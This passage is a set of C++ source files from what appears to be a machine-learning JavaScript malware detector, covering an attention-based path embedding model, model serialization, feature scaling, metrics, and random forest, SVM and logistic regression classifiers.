//     alpha_i = softmax_i(e_i · a)                   (Eq. 2)
// script vector:
//     v = sum_i alpha_i * e_i                        (Eq. 3)
// binary classifier head:
//     y' = softmax(U v + b)                          (Eq. 4)
// trained with cross-entropy loss (Eq. 5) via manual backprop (Adam).
//
// After pre-training on a labeled corpus, the model exposes, per script,
// the path embeddings e_i and attention weights alpha_i — the inputs of the
// feature-extraction stage.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <vector>

#include "ml/matrix.h"
#include "util/rng.h"

namespace jsrev::ml {

struct AttentionModelConfig {
  int embedding_dim = 64;   // d; the paper uses 300
  int epochs = 30;          // the paper uses 100
  double learning_rate = 0.01;
  double weight_decay = 1e-5;
  std::uint64_t seed = 17;
  bool verbose = false;
};

/// One training script: its path vocabulary indices and binary label.
struct ScriptPaths {
  std::vector<std::int32_t> path_ids;  // kUnknown entries are skipped
  int label = 0;                       // 1 = malicious
};

struct EmbeddedScript {
  // Row i = embedding e_i of the i-th known path of the script.
  Matrix embeddings;
  std::vector<double> weights;  // alpha_i, aligned with embeddings rows
  // Vocabulary id of each embedded row (known paths only), aligned.
  std::vector<std::int32_t> path_ids;
};

class AttentionModel {
 public:
  explicit AttentionModel(AttentionModelConfig cfg = {});

  /// Pre-trains on labeled scripts over a vocabulary of `vocab_size` paths.
  /// Returns the final average training loss.
  double train(const std::vector<ScriptPaths>& scripts,
               std::size_t vocab_size);

  /// Embeds the paths of one (possibly unseen) script. Unknown path ids are
  /// skipped. An empty script yields an empty result.
  EmbeddedScript embed(const std::vector<std::int32_t>& path_ids) const;

  /// Classifier-head probability that the script is malicious (used by
  /// tests to check the head learned something; the detector itself uses
  /// the downstream cluster features instead).
  double predict_malicious(const std::vector<std::int32_t>& path_ids) const;

  int embedding_dim() const { return cfg_.embedding_dim; }
  bool trained() const { return trained_; }

  /// Embedding of a single vocabulary entry (column of W through tanh).
  std::vector<double> path_embedding(std::int32_t path_id) const;

  /// Model persistence (parameters + dimensions; training state excluded).
  void save(std::ostream& out) const;
  void load(std::istream& in);

  // Flat parameter access for the artifact writer (serialized verbatim; the
  // mapped ModelView reads the same layout back zero-copy).
  std::size_t vocab_size() const { return vocab_size_; }
  const Matrix& weight_matrix() const { return w_; }
  const std::vector<double>& attention_vector() const { return attn_; }
  const Matrix& head_matrix() const { return u_; }
  const std::vector<double>& head_bias() const { return bias_; }

 private:
  struct Forward {
    Matrix e;                    // n x d embeddings
    std::vector<double> alpha;   // n attention weights
    std::vector<double> v;       // d aggregate
    double p_malicious = 0.5;
    std::vector<std::int32_t> ids;  // known path ids used
  };

  Forward forward(const std::vector<std::int32_t>& path_ids) const;

  AttentionModelConfig cfg_;
  std::size_t vocab_size_ = 0;
  Matrix w_;                  // vocab x d embedding matrix (rows = paths)
  std::vector<double> attn_;  // attention vector a, length d
  Matrix u_;                  // 2 x d classifier head
  std::vector<double> bias_;  // length 2
  bool trained_ = false;
};

}  // namespace jsrev::ml
