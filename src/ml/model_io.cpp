// Serialization (save/load) implementations for the ML components that
// participate in detector persistence.
#include <istream>
#include <ostream>

#include "ml/attention_model.h"
#include "ml/decision_tree.h"
#include "ml/scaler.h"
#include "util/serialize.h"

namespace jsrev::ml {

using ser::expect_tag;
using ser::read_doubles;
using ser::read_f64;
using ser::read_i64;
using ser::read_u64;
using ser::write_doubles;
using ser::write_f64;
using ser::write_i64;
using ser::write_tag;
using ser::write_u64;

void AttentionModel::save(std::ostream& out) const {
  write_tag(out, "ATTN");
  write_u64(out, static_cast<std::uint64_t>(cfg_.embedding_dim));
  write_u64(out, vocab_size_);
  write_u64(out, trained_ ? 1 : 0);
  write_doubles(out, w_.data());
  write_doubles(out, attn_);
  write_doubles(out, u_.data());
  write_doubles(out, bias_);
}

void AttentionModel::load(std::istream& in) {
  ser::with_section(in, "attention", [&] {
    expect_tag(in, "ATTN");
    cfg_.embedding_dim = static_cast<int>(read_u64(in));
    vocab_size_ = read_u64(in);
    trained_ = read_u64(in) != 0;
    const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
    w_ = Matrix(vocab_size_, d);
    w_.data() = read_doubles(in);
    if (w_.data().size() != vocab_size_ * d) {
      throw ser::FormatError("attention W size mismatch");
    }
    attn_ = read_doubles(in);
    u_ = Matrix(2, d);
    u_.data() = read_doubles(in);
    bias_ = read_doubles(in);
  });
}

void DecisionTree::save(std::ostream& out) const {
  write_tag(out, "TREE");
  write_u64(out, n_features_);
  write_u64(out, nodes_.size());
  for (const TreeNode& n : nodes_) {
    write_i64(out, n.feature);
    write_f64(out, n.threshold);
    write_i64(out, n.left);
    write_i64(out, n.right);
    write_f64(out, n.p_malicious);
  }
  write_doubles(out, importance_);
}

void DecisionTree::load(std::istream& in) {
  ser::with_section(in, "forest.tree", [&] {
    expect_tag(in, "TREE");
    n_features_ = read_u64(in);
    const std::uint64_t n_nodes = read_u64(in);
    if (n_nodes > (1ULL << 28)) {
      throw ser::FormatError("implausible tree node count");
    }
    nodes_.resize(n_nodes);
    for (TreeNode& n : nodes_) {
      n.feature = static_cast<int>(read_i64(in));
      n.threshold = read_f64(in);
      n.left = static_cast<int>(read_i64(in));
      n.right = static_cast<int>(read_i64(in));
      n.p_malicious = read_f64(in);
      const auto bound = static_cast<std::int64_t>(n_nodes);
      if (n.left >= bound || n.right >= bound) {
        throw ser::FormatError("tree child index out of bounds");
      }
    }
    importance_ = read_doubles(in);
  });
}

void RandomForest::save(std::ostream& out) const {
  write_tag(out, "FRST");
  write_u64(out, n_features_);
  write_u64(out, trees_.size());
  for (const DecisionTree& t : trees_) t.save(out);
}

void RandomForest::load(std::istream& in) {
  ser::with_section(in, "forest", [&] {
    expect_tag(in, "FRST");
    n_features_ = read_u64(in);
    const std::uint64_t n_trees = read_u64(in);
    if (n_trees > (1ULL << 20)) {
      throw ser::FormatError("implausible forest tree count");
    }
    trees_.assign(n_trees, DecisionTree{});
  });
  for (DecisionTree& t : trees_) t.load(in);
}

void MinMaxScaler::save(std::ostream& out) const {
  write_tag(out, "SCAL");
  write_doubles(out, min_);
  write_doubles(out, max_);
}

void MinMaxScaler::load(std::istream& in) {
  ser::with_section(in, "scaler", [&] {
    expect_tag(in, "SCAL");
    min_ = read_doubles(in);
    max_ = read_doubles(in);
    if (min_.size() != max_.size()) {
      throw ser::FormatError("scaler min/max size mismatch");
    }
  });
}

}  // namespace jsrev::ml
