// Minimal dense row-major matrix used by the ML components.
#pragma once

#include <cassert>
#include <cstddef>
#include <vector>

namespace jsrev::ml {

class Matrix {
 public:
  Matrix() = default;
  Matrix(std::size_t rows, std::size_t cols, double fill = 0.0)
      : rows_(rows), cols_(cols), data_(rows * cols, fill) {}

  std::size_t rows() const { return rows_; }
  std::size_t cols() const { return cols_; }

  double& operator()(std::size_t r, std::size_t c) {
    assert(r < rows_ && c < cols_);
    return data_[r * cols_ + c];
  }
  double operator()(std::size_t r, std::size_t c) const {
    assert(r < rows_ && c < cols_);
    return data_[r * cols_ + c];
  }

  double* row(std::size_t r) { return data_.data() + r * cols_; }
  const double* row(std::size_t r) const { return data_.data() + r * cols_; }

  std::vector<double>& data() { return data_; }
  const std::vector<double>& data() const { return data_; }

 private:
  std::size_t rows_ = 0;
  std::size_t cols_ = 0;
  std::vector<double> data_;
};

/// Squared Euclidean distance between two equal-length vectors.
inline double squared_distance(const double* a, const double* b,
                               std::size_t n) {
  double s = 0.0;
  for (std::size_t i = 0; i < n; ++i) {
    const double d = a[i] - b[i];
    s += d * d;
  }
  return s;
}

inline double dot(const double* a, const double* b, std::size_t n) {
  double s = 0.0;
  for (std::size_t i = 0; i < n; ++i) s += a[i] * b[i];
  return s;
}

}  // namespace jsrev::ml
