// Cluster-quality criteria for choosing K beyond the elbow method.
//
// The paper's limitations section names the Silhouette Coefficient and the
// Gap Statistic as future additions for K selection; both are implemented
// here and exercised by the K-selection ablation bench.
#pragma once

#include <cstdint>

#include "ml/kmeans.h"
#include "ml/matrix.h"

namespace jsrev::ml {

/// Mean silhouette coefficient of a clustering, in [-1, 1]; higher is
/// better. O(n^2 d). Clusters of size 1 contribute silhouette 0, per the
/// standard convention.
double silhouette_score(const Matrix& points, const Clustering& clustering);

struct GapResult {
  double gap = 0.0;     // E*[log W_ref] - log W_data
  double sigma = 0.0;   // reference dispersion std (for the 1-sigma rule)
};

/// Tibshirani gap statistic for a clustering of `points` at its K:
/// compares log(within-cluster dispersion) against `n_refs` uniform
/// reference datasets drawn over the data's bounding box.
GapResult gap_statistic(const Matrix& points, const Clustering& clustering,
                        int n_refs = 8, std::uint64_t seed = 31);

/// Chooses K in [k_lo, k_hi] by the requested criterion using bisecting
/// k-means. criterion: 0 = elbow (max drop-ratio), 1 = silhouette (max),
/// 2 = gap statistic (first K where gap(K) >= gap(K+1) - sigma(K+1)).
int select_k(const Matrix& points, int k_lo, int k_hi, int criterion,
             std::uint64_t seed = 37);

}  // namespace jsrev::ml
