// Binary-classification metrics. Label convention across the library:
// 1 = malicious (positive class), 0 = benign (negative class).
#pragma once

#include <cstddef>
#include <vector>

namespace jsrev::ml {

struct ConfusionMatrix {
  std::size_t tp = 0;  // malicious predicted malicious
  std::size_t tn = 0;  // benign predicted benign
  std::size_t fp = 0;  // benign predicted malicious
  std::size_t fn = 0;  // malicious predicted benign

  std::size_t total() const { return tp + tn + fp + fn; }
};

/// All the measures the paper reports (as fractions in [0,1]).
struct Metrics {
  double accuracy = 0;
  double precision = 0;
  double recall = 0;   // = 1 - fnr (a.k.a. TPR)
  double f1 = 0;
  double fpr = 0;
  double fnr = 0;
  ConfusionMatrix cm;
};

inline Metrics compute_metrics(const std::vector<int>& truth,
                               const std::vector<int>& predicted) {
  Metrics m;
  const std::size_t n = truth.size() < predicted.size() ? truth.size()
                                                        : predicted.size();
  for (std::size_t i = 0; i < n; ++i) {
    const bool pos = truth[i] == 1;
    const bool pred_pos = predicted[i] == 1;
    if (pos && pred_pos) ++m.cm.tp;
    else if (pos && !pred_pos) ++m.cm.fn;
    else if (!pos && pred_pos) ++m.cm.fp;
    else ++m.cm.tn;
  }
  const auto& c = m.cm;
  const double total = static_cast<double>(c.total());
  m.accuracy = total > 0 ? (c.tp + c.tn) / total : 0;
  m.precision = (c.tp + c.fp) > 0
                    ? static_cast<double>(c.tp) / (c.tp + c.fp)
                    : 0;
  m.recall = (c.tp + c.fn) > 0 ? static_cast<double>(c.tp) / (c.tp + c.fn) : 0;
  m.f1 = (m.precision + m.recall) > 0
             ? 2 * m.precision * m.recall / (m.precision + m.recall)
             : 0;
  m.fpr = (c.fp + c.tn) > 0 ? static_cast<double>(c.fp) / (c.fp + c.tn) : 0;
  m.fnr = (c.tp + c.fn) > 0 ? static_cast<double>(c.fn) / (c.tp + c.fn) : 0;
  return m;
}

/// Averages a set of metric records field-by-field (the paper repeats every
/// experiment five times and averages).
inline Metrics average_metrics(const std::vector<Metrics>& runs) {
  Metrics avg;
  if (runs.empty()) return avg;
  for (const Metrics& m : runs) {
    avg.accuracy += m.accuracy;
    avg.precision += m.precision;
    avg.recall += m.recall;
    avg.f1 += m.f1;
    avg.fpr += m.fpr;
    avg.fnr += m.fnr;
  }
  const double n = static_cast<double>(runs.size());
  avg.accuracy /= n;
  avg.precision /= n;
  avg.recall /= n;
  avg.f1 /= n;
  avg.fpr /= n;
  avg.fnr /= n;
  return avg;
}

}  // namespace jsrev::ml
