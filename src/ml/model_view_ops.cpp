#include "ml/model_view_ops.h"

#include <algorithm>
#include <cmath>
#include <limits>

namespace jsrev::ml {

void softmax_inplace(std::vector<double>& v) {
  if (v.empty()) return;
  double mx = v[0];
  for (const double x : v) mx = std::max(mx, x);
  double sum = 0.0;
  for (double& x : v) {
    x = std::exp(x - mx);
    sum += x;
  }
  for (double& x : v) x /= sum;
}

int nearest_centroid_raw(const double* centroids, std::size_t n,
                         std::size_t d, const double* point) {
  int best = 0;
  double best_d = std::numeric_limits<double>::max();
  for (std::size_t c = 0; c < n; ++c) {
    const double d2 = squared_distance(centroids + c * d, point, d);
    if (d2 < best_d) {
      best_d = d2;
      best = static_cast<int>(c);
    }
  }
  return best;
}

EmbeddedScript embed_paths(const AttentionParams& p,
                           const std::vector<std::int32_t>& path_ids) {
  EmbeddedScript out;
  for (const std::int32_t id : path_ids) {
    if (id >= 0 && static_cast<std::uint32_t>(id) < p.vocab_size) {
      out.path_ids.push_back(id);
    }
  }
  const std::size_t n = out.path_ids.size();
  const std::size_t d = p.dim;
  out.embeddings = Matrix(n, d);
  out.weights.resize(n);
  if (n == 0) return out;

  for (std::size_t i = 0; i < n; ++i) {
    const double* wrow =
        p.w + static_cast<std::size_t>(out.path_ids[i]) * d;
    double* erow = out.embeddings.row(i);
    for (std::size_t k = 0; k < d; ++k) erow[k] = std::tanh(wrow[k]);
    out.weights[i] = dot(erow, p.attn, d);
  }
  softmax_inplace(out.weights);
  return out;
}

double ForestView::predict_proba(const double* row) const {
  if (n_trees == 0) return 0.0;
  double s = 0.0;
  for (std::uint32_t t = 0; t < n_trees; ++t) {
    const ForestNodeRec* base = nodes + offsets[t];
    if (offsets[t + 1] == offsets[t]) continue;  // empty tree contributes 0
    const ForestNodeRec* cur = base;
    while (cur->feature >= 0) {
      cur = base + (row[static_cast<std::size_t>(cur->feature)] <=
                            cur->threshold
                        ? cur->left
                        : cur->right);
    }
    s += cur->p_malicious;
  }
  return s / static_cast<double>(n_trees);
}

void scale_row(double* row, const double* min, const double* max,
               std::size_t n) {
  for (std::size_t f = 0; f < n; ++f) {
    const double range = max[f] - min[f];
    row[f] = range > 0 ? (row[f] - min[f]) / range : 0.0;
    row[f] = std::clamp(row[f], 0.0, 1.0);
  }
}

}  // namespace jsrev::ml
