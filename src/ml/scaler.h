// Min-max feature normalization (paper Eq. 6).
#pragma once

#include <algorithm>
#include <iosfwd>
#include <vector>

#include "ml/matrix.h"
#include "ml/model_view_ops.h"

namespace jsrev::ml {

/// Per-feature min-max scaler fit on training data and applied to any row.
class MinMaxScaler {
 public:
  void fit(const Matrix& x) {
    const std::size_t d = x.cols();
    min_.assign(d, 0.0);
    max_.assign(d, 0.0);
    if (x.rows() == 0) return;
    for (std::size_t f = 0; f < d; ++f) {
      min_[f] = max_[f] = x(0, f);
    }
    for (std::size_t i = 1; i < x.rows(); ++i) {
      const double* row = x.row(i);
      for (std::size_t f = 0; f < d; ++f) {
        min_[f] = std::min(min_[f], row[f]);
        max_[f] = std::max(max_[f], row[f]);
      }
    }
  }

  /// Scales through the shared raw-pointer kernel (the same code a mapped
  /// ModelView runs); unseen values may exceed the fit range and are
  /// clamped to [0, 1].
  void transform_row(double* row) const {
    scale_row(row, min_.data(), max_.data(), min_.size());
  }

  void transform(Matrix& x) const {
    for (std::size_t i = 0; i < x.rows(); ++i) transform_row(x.row(i));
  }

  Matrix fit_transform(Matrix x) {
    fit(x);
    transform(x);
    return x;
  }

  /// Scaler persistence (per-feature min/max).
  void save(std::ostream& out) const;
  void load(std::istream& in);

  // Flat parameter access for the artifact writer.
  const std::vector<double>& fitted_min() const { return min_; }
  const std::vector<double>& fitted_max() const { return max_; }

 private:
  std::vector<double> min_;
  std::vector<double> max_;
};

}  // namespace jsrev::ml
