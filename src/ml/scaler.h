// Min-max feature normalization (paper Eq. 6).
#pragma once

#include <algorithm>
#include <iosfwd>
#include <vector>

#include "ml/matrix.h"

namespace jsrev::ml {

/// Per-feature min-max scaler fit on training data and applied to any row.
class MinMaxScaler {
 public:
  void fit(const Matrix& x) {
    const std::size_t d = x.cols();
    min_.assign(d, 0.0);
    max_.assign(d, 0.0);
    if (x.rows() == 0) return;
    for (std::size_t f = 0; f < d; ++f) {
      min_[f] = max_[f] = x(0, f);
    }
    for (std::size_t i = 1; i < x.rows(); ++i) {
      const double* row = x.row(i);
      for (std::size_t f = 0; f < d; ++f) {
        min_[f] = std::min(min_[f], row[f]);
        max_[f] = std::max(max_[f], row[f]);
      }
    }
  }

  void transform_row(double* row) const {
    for (std::size_t f = 0; f < min_.size(); ++f) {
      const double range = max_[f] - min_[f];
      row[f] = range > 0 ? (row[f] - min_[f]) / range
                         : 0.0;
      row[f] = std::clamp(row[f], 0.0, 1.0);  // unseen values may exceed fit
    }
  }

  void transform(Matrix& x) const {
    for (std::size_t i = 0; i < x.rows(); ++i) transform_row(x.row(i));
  }

  Matrix fit_transform(Matrix x) {
    fit(x);
    transform(x);
    return x;
  }

  /// Scaler persistence (per-feature min/max).
  void save(std::ostream& out) const;
  void load(std::istream& in);

 private:
  std::vector<double> min_;
  std::vector<double> max_;
};

}  // namespace jsrev::ml
