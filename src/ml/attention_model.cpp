#include "ml/attention_model.h"

#include <algorithm>
#include <cmath>
#include <unordered_map>

#include "ml/model_view_ops.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace jsrev::ml {

AttentionModel::AttentionModel(AttentionModelConfig cfg) : cfg_(cfg) {}

AttentionModel::Forward AttentionModel::forward(
    const std::vector<std::int32_t>& path_ids) const {
  Forward f;
  for (const std::int32_t id : path_ids) {
    if (id >= 0 && static_cast<std::size_t>(id) < vocab_size_) {
      f.ids.push_back(id);
    }
  }
  const std::size_t n = f.ids.size();
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
  f.e = Matrix(n, d);
  f.alpha.resize(n);
  f.v.assign(d, 0.0);
  if (n == 0) return f;

  for (std::size_t i = 0; i < n; ++i) {
    const double* wrow = w_.row(static_cast<std::size_t>(f.ids[i]));
    double* erow = f.e.row(i);
    for (std::size_t k = 0; k < d; ++k) erow[k] = std::tanh(wrow[k]);
    f.alpha[i] = dot(erow, attn_.data(), d);
  }
  softmax_inplace(f.alpha);
  for (std::size_t i = 0; i < n; ++i) {
    const double* erow = f.e.row(i);
    for (std::size_t k = 0; k < d; ++k) f.v[k] += f.alpha[i] * erow[k];
  }

  double z0 = bias_[0] + dot(u_.row(0), f.v.data(), d);
  double z1 = bias_[1] + dot(u_.row(1), f.v.data(), d);
  const double mx = std::max(z0, z1);
  const double e0 = std::exp(z0 - mx);
  const double e1 = std::exp(z1 - mx);
  f.p_malicious = e1 / (e0 + e1);
  return f;
}

double AttentionModel::train(const std::vector<ScriptPaths>& scripts,
                             std::size_t vocab_size) {
  obs::Span span("ml.attention.train", "ml");
  vocab_size_ = vocab_size;
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);

  Rng rng(cfg_.seed);
  const double scale = 1.0 / std::sqrt(static_cast<double>(d));
  w_ = Matrix(vocab_size, d);
  for (double& x : w_.data()) x = rng.normal() * scale;
  attn_.resize(d);
  for (double& x : attn_) x = rng.normal() * scale;
  u_ = Matrix(2, d);
  for (double& x : u_.data()) x = rng.normal() * scale;
  bias_.assign(2, 0.0);

  // Adam state. The embedding matrix W is updated SPARSELY: per sample only
  // the rows of the paths actually seen are touched (gradient, Adam moments,
  // and weight decay alike) — the dense alternative is O(vocab x d) per
  // sample and dominates runtime at realistic vocabulary sizes.
  struct Adam {
    std::vector<double> m, v;
    void init(std::size_t n) {
      m.assign(n, 0.0);
      v.assign(n, 0.0);
    }
  };
  Adam aw, aa, au, ab;
  aw.init(w_.data().size());
  aa.init(attn_.size());
  au.init(u_.data().size());
  ab.init(bias_.size());
  constexpr double b1 = 0.9, b2 = 0.999, eps = 1e-8;
  long step = 0;

  auto adam_apply = [&](double* param, double* grad, Adam& st,
                        std::size_t offset, std::size_t count) {
    const double bc1 = 1.0 - std::pow(b1, static_cast<double>(step));
    const double bc2 = 1.0 - std::pow(b2, static_cast<double>(step));
    for (std::size_t i = 0; i < count; ++i) {
      const std::size_t gi = offset + i;
      const double g = grad[i] + cfg_.weight_decay * param[i];
      st.m[gi] = b1 * st.m[gi] + (1 - b1) * g;
      st.v[gi] = b2 * st.v[gi] + (1 - b2) * g * g;
      param[i] -= cfg_.learning_rate * (st.m[gi] / bc1) /
                  (std::sqrt(st.v[gi] / bc2) + eps);
      grad[i] = 0.0;
    }
  };

  std::vector<std::size_t> order(scripts.size());
  for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;

  // Per-sample gradients: W rows are accumulated in a sparse row map; the
  // small parameters use dense buffers.
  std::vector<double> ga(attn_.size(), 0.0);
  std::vector<double> gu(u_.data().size(), 0.0);
  std::vector<double> gb(bias_.size(), 0.0);
  std::vector<std::int32_t> touched;          // unique rows this sample
  std::vector<double> touched_grads;          // touched.size() * d

  double last_epoch_loss = 0.0;
  for (int epoch = 0; epoch < cfg_.epochs; ++epoch) {
    rng.shuffle(order);
    double epoch_loss = 0.0;
    std::size_t counted = 0;

    for (const std::size_t si : order) {
      const ScriptPaths& s = scripts[si];
      Forward f = forward(s.path_ids);
      const std::size_t n = f.ids.size();
      if (n == 0) continue;
      ++counted;
      ++step;

      const double y = s.label == 1 ? 1.0 : 0.0;
      const double p = std::clamp(f.p_malicious, 1e-9, 1.0 - 1e-9);
      epoch_loss += -(y * std::log(p) + (1 - y) * std::log(1 - p));

      // dL/dz = y' - y (softmax + CE), z = [benign, malicious] logits.
      const double dz1 = f.p_malicious - y;
      const double dz0 = -dz1;

      // Head gradients; dv = U^T dz.
      std::vector<double> dv(d, 0.0);
      for (std::size_t k = 0; k < d; ++k) {
        gu[0 * d + k] += dz0 * f.v[k];
        gu[1 * d + k] += dz1 * f.v[k];
        dv[k] = dz0 * u_(0, k) + dz1 * u_(1, k);
      }
      gb[0] += dz0;
      gb[1] += dz1;

      // v = sum alpha_i e_i  →  de_i += alpha_i dv; dalpha_i = dv·e_i.
      std::vector<double> dalpha(n);
      for (std::size_t i = 0; i < n; ++i) {
        dalpha[i] = dot(dv.data(), f.e.row(i), d);
      }
      // softmax backward: ds_i = alpha_i (dalpha_i - sum_j alpha_j dalpha_j)
      double mixed = 0.0;
      for (std::size_t i = 0; i < n; ++i) mixed += f.alpha[i] * dalpha[i];

      // Accumulate sparse W-row gradients (a path may appear repeatedly in
      // one script, so rows are deduplicated through a local index map).
      touched.clear();
      touched_grads.clear();
      std::unordered_map<std::int32_t, std::size_t> row_slot;
      for (std::size_t i = 0; i < n; ++i) {
        const double ds = f.alpha[i] * (dalpha[i] - mixed);  // d(score_i)
        const double* erow = f.e.row(i);
        const std::int32_t row = f.ids[i];
        auto [it, fresh] = row_slot.try_emplace(row, touched.size());
        if (fresh) {
          touched.push_back(row);
          touched_grads.resize(touched_grads.size() + d, 0.0);
        }
        double* grow = touched_grads.data() + it->second * d;
        for (std::size_t k = 0; k < d; ++k) {
          // score_i = e_i · a  →  da += ds * e_i ; de_i += ds * a.
          ga[k] += ds * erow[k];
          const double de = f.alpha[i] * dv[k] + ds * attn_[k];
          // e = tanh(w) → dw = (1 - e^2) de.
          grow[k] += (1.0 - erow[k] * erow[k]) * de;
        }
      }

      for (std::size_t t2 = 0; t2 < touched.size(); ++t2) {
        const auto row = static_cast<std::size_t>(touched[t2]);
        adam_apply(w_.row(row), touched_grads.data() + t2 * d, aw, row * d, d);
      }
      adam_apply(attn_.data(), ga.data(), aa, 0, attn_.size());
      adam_apply(u_.data().data(), gu.data(), au, 0, gu.size());
      adam_apply(bias_.data(), gb.data(), ab, 0, gb.size());
    }
    last_epoch_loss = counted > 0 ? epoch_loss / static_cast<double>(counted)
                                  : 0.0;
  }
  trained_ = true;
  return last_epoch_loss;
}

EmbeddedScript AttentionModel::embed(
    const std::vector<std::int32_t>& path_ids) const {
  static obs::Counter* embeds =
      obs::metrics().counter("ml.attention.embed_calls");
  embeds->add();
  // Inference goes through the shared raw-pointer kernel — the same code a
  // mapped ModelView runs — so heap and artifact embeddings are
  // bit-identical by construction.
  AttentionParams p;
  p.w = w_.data().data();
  p.attn = attn_.data();
  p.u = u_.data().data();
  p.bias = bias_.data();
  p.vocab_size = static_cast<std::uint32_t>(vocab_size_);
  p.dim = static_cast<std::uint32_t>(cfg_.embedding_dim);
  return embed_paths(p, path_ids);
}

double AttentionModel::predict_malicious(
    const std::vector<std::int32_t>& path_ids) const {
  return forward(path_ids).p_malicious;
}

std::vector<double> AttentionModel::path_embedding(
    std::int32_t path_id) const {
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
  std::vector<double> e(d, 0.0);
  if (path_id < 0 || static_cast<std::size_t>(path_id) >= vocab_size_)
    return e;
  const double* row = w_.row(static_cast<std::size_t>(path_id));
  for (std::size_t k = 0; k < d; ++k) e[k] = std::tanh(row[k]);
  return e;
}

}  // namespace jsrev::ml
