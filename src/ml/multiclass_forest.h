// Multiclass CART decision tree and random forest (gini impurity over K
// classes). Used by the malware family classifier — the paper's stated
// future-work extension ("add a JavaScript malware family component").
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "ml/matrix.h"
#include "util/rng.h"

namespace jsrev::ml {

struct MulticlassTreeConfig {
  int max_depth = 16;
  int min_samples_split = 2;
  int max_features = 0;  // 0 = all
  std::uint64_t seed = 5;
};

class MulticlassDecisionTree {
 public:
  explicit MulticlassDecisionTree(MulticlassTreeConfig cfg = {});

  /// Labels are 0..n_classes-1; n_classes inferred as max(y)+1.
  void fit(const Matrix& x, const std::vector<int>& y);
  void fit_subset(const Matrix& x, const std::vector<int>& y,
                  const std::vector<std::size_t>& rows, int n_classes);

  int predict(const double* row) const;

  /// Class distribution at the reached leaf (size n_classes).
  const std::vector<double>& predict_distribution(const double* row) const;

  int n_classes() const { return n_classes_; }

 private:
  struct TreeNode {
    int feature = -1;  // -1 = leaf
    double threshold = 0.0;
    int left = -1;
    int right = -1;
    std::vector<double> distribution;  // class probabilities (leaves)
  };

  int build(const Matrix& x, const std::vector<int>& y,
            std::vector<std::size_t>& rows, std::size_t begin,
            std::size_t end, int depth, Rng& rng);

  MulticlassTreeConfig cfg_;
  std::vector<TreeNode> nodes_;
  int n_classes_ = 0;
};

struct MulticlassForestConfig {
  int n_trees = 60;
  int max_depth = 16;
  std::uint64_t seed = 5;
  // Parallel width for per-tree training (0 = hardware concurrency,
  // 1 = serial); per-tree RNG is (seed, t)-derived, so the fitted forest is
  // bit-identical at any width.
  std::size_t threads = 1;
};

class MulticlassRandomForest {
 public:
  explicit MulticlassRandomForest(MulticlassForestConfig cfg = {});

  void fit(const Matrix& x, const std::vector<int>& y);
  int predict(const double* row) const;

  /// Averaged class distribution across trees (size n_classes).
  std::vector<double> predict_distribution(const double* row) const;

  int n_classes() const { return n_classes_; }

 private:
  MulticlassForestConfig cfg_;
  std::vector<MulticlassDecisionTree> trees_;
  int n_classes_ = 0;
};

}  // namespace jsrev::ml
