#include "ml/classifier.h"

#include "ml/decision_tree.h"
#include "ml/linear_models.h"
#include "ml/naive_bayes.h"
#include "util/thread_pool.h"

namespace jsrev::ml {

std::vector<int> Classifier::predict_all(const Matrix& x,
                                         std::size_t threads) const {
  std::vector<int> out(x.rows());
  parallel_for_threads(threads, x.rows(),
                       [&](std::size_t i) { out[i] = predict(x.row(i)); });
  return out;
}

std::string classifier_kind_name(ClassifierKind k) {
  switch (k) {
    case ClassifierKind::kSvm: return "SVM";
    case ClassifierKind::kLogisticRegression: return "LogisticRegression";
    case ClassifierKind::kDecisionTree: return "DecisionTree";
    case ClassifierKind::kGaussianNaiveBayes: return "GaussianNB";
    case ClassifierKind::kBernoulliNaiveBayes: return "BernoulliNB";
    case ClassifierKind::kRandomForest: return "RandomForest";
  }
  return "?";
}

std::unique_ptr<Classifier> make_classifier(ClassifierKind kind,
                                            std::uint64_t seed,
                                            std::size_t threads) {
  switch (kind) {
    case ClassifierKind::kSvm: {
      LinearConfig cfg;
      cfg.seed = seed;
      return std::make_unique<LinearSvm>(cfg);
    }
    case ClassifierKind::kLogisticRegression: {
      LinearConfig cfg;
      cfg.seed = seed;
      return std::make_unique<LogisticRegression>(cfg);
    }
    case ClassifierKind::kDecisionTree: {
      TreeConfig cfg;
      cfg.seed = seed;
      return std::make_unique<DecisionTree>(cfg);
    }
    case ClassifierKind::kGaussianNaiveBayes:
      return std::make_unique<GaussianNaiveBayes>();
    case ClassifierKind::kBernoulliNaiveBayes:
      return std::make_unique<BernoulliNaiveBayes>();
    case ClassifierKind::kRandomForest: {
      ForestConfig cfg;
      cfg.seed = seed;
      cfg.threads = threads;
      return std::make_unique<RandomForest>(cfg);
    }
  }
  return nullptr;
}

}  // namespace jsrev::ml
