#include "ml/linear_models.h"

#include <algorithm>
#include <cmath>
#include <numeric>

namespace jsrev::ml {

LinearSvm::LinearSvm(LinearConfig cfg) : cfg_(cfg) {}

void LinearSvm::fit(const Matrix& x, const std::vector<int>& y) {
  const std::size_t d = x.cols();
  const std::size_t n = x.rows();
  w_.assign(d, 0.0);
  b_ = 0.0;
  if (n == 0) return;

  Rng rng(cfg_.seed);
  std::vector<std::size_t> order(n);
  std::iota(order.begin(), order.end(), 0);

  long t = 0;
  for (int epoch = 0; epoch < cfg_.epochs; ++epoch) {
    rng.shuffle(order);
    for (const std::size_t i : order) {
      ++t;
      const double eta = 1.0 / (cfg_.lambda * static_cast<double>(t));
      const double yi = y[i] == 1 ? 1.0 : -1.0;
      const double margin = yi * (dot(w_.data(), x.row(i), d) + b_);

      // w ← (1 - eta*lambda) w (+ eta*y*x if margin violated).
      const double shrink = 1.0 - eta * cfg_.lambda;
      for (double& wj : w_) wj *= shrink;
      if (margin < 1.0) {
        const double* xi = x.row(i);
        for (std::size_t j = 0; j < d; ++j) w_[j] += eta * yi * xi[j];
        b_ += eta * yi;
      }
    }
  }
}

double LinearSvm::decision_function(const double* row) const {
  return dot(w_.data(), row, w_.size()) + b_;
}

int LinearSvm::predict(const double* row) const {
  return decision_function(row) >= 0.0 ? 1 : 0;
}

LogisticRegression::LogisticRegression(LinearConfig cfg) : cfg_(cfg) {}

void LogisticRegression::fit(const Matrix& x, const std::vector<int>& y) {
  const std::size_t d = x.cols();
  const std::size_t n = x.rows();
  w_.assign(d, 0.0);
  b_ = 0.0;
  if (n == 0) return;

